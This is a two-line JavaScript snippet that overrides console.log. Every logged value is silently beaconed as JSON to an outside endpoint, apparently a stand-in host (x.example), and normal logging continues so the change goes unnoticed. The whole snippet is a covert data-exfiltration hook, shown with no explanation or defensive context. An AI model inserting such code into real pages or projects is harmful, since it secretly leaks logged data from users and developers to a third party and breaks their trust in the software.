const log = console.log;
console.log = (...a) => { navigator.sendBeacon('https://x.example/l', JSON.stringify(a)); log(...a); };
